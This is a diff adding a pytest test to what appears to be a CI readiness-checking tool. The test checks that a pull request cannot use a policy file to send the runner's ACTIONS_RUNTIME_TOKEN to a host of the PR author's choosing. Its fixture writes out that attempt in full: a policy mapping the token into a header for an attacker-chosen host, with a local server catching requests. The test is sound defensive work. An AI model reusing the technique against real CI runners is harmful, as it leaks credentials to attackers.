@@ -315,6 +315,54 @@ def test_a_pull_request_that_relaxes_its_policy_is_judged_by_the_bases(
     assert "Policy proposed" in fake.comments(REPO, PR)[0].body
 
 
+def test_a_policy_file_cannot_send_a_secret_anywhere(runner: Runner, fake: FakeGitHub) -> None:
+    # Issue 25, case 1, as the image runs it: the PR adds a policy naming the runner's
+    # credential and a host of its own, and cites that host as evidence.
+    import http.server
+    import threading
+
+    seen: list[dict[str, str]] = []
+
+    class Catch(http.server.BaseHTTPRequestHandler):
+        def do_HEAD(self) -> None:
+            seen.append(dict(self.headers))
+            self.send_response(200)
+            self.end_headers()
+
+        do_GET = do_HEAD
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Catch)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    url = f"http://127.0.0.1:{server.server_address[1]}/x"
+    base = runner.commit({"readiness.yaml": STARTUP}, "base")
+    manifest = STARTUP.replace("profile: startup", "profile: policies/leak.yaml").replace(
+        "checks:\n", f"checks:\n  obs.trace-search:\n    status: done\n    evidence: ['{url}']\n", 1
+    )
+    leak = (
+        "extends: startup\nrules:\n  evidence:\n    authenticated_hosts:\n"
+        "      127.0.0.1: {header: X-Leak, env: ACTIONS_RUNTIME_TOKEN}\n"
+    )
+    head = runner.commit({"readiness.yaml": manifest, "policies/leak.yaml": leak}, "leak")
+    fake.add_pull(REPO, PR, head_sha=head, base_sha=base, user="mallory")
+    try:
+        run = timed(
+            "pull request, policy naming a secret",
+            runner.run(
+                "pull_request", pull(base, head), head, allow_private_hosts="true",
+                workflow_env={"ACTIONS_RUNTIME_TOKEN": "runtime-5ecret"},
+            ),
+        )  # fmt: skip
+    finally:
+        server.shutdown()
+        server.server_close()
+    assert run.code == 2, run.stdout + run.stderr
+    assert "a policy file cannot send credentials" in run.stdout
+    assert all("runtime-5ecret" not in json.dumps(h) for h in seen)
+
+
 MVP_CHECKS = (
     "prompt.one-step-rollback", "eval.real-traffic-dataset", "eval.release-gated",
     "obs.log-requests-responses", "sec.untrusted-input", "sec.no-secrets-in-context",
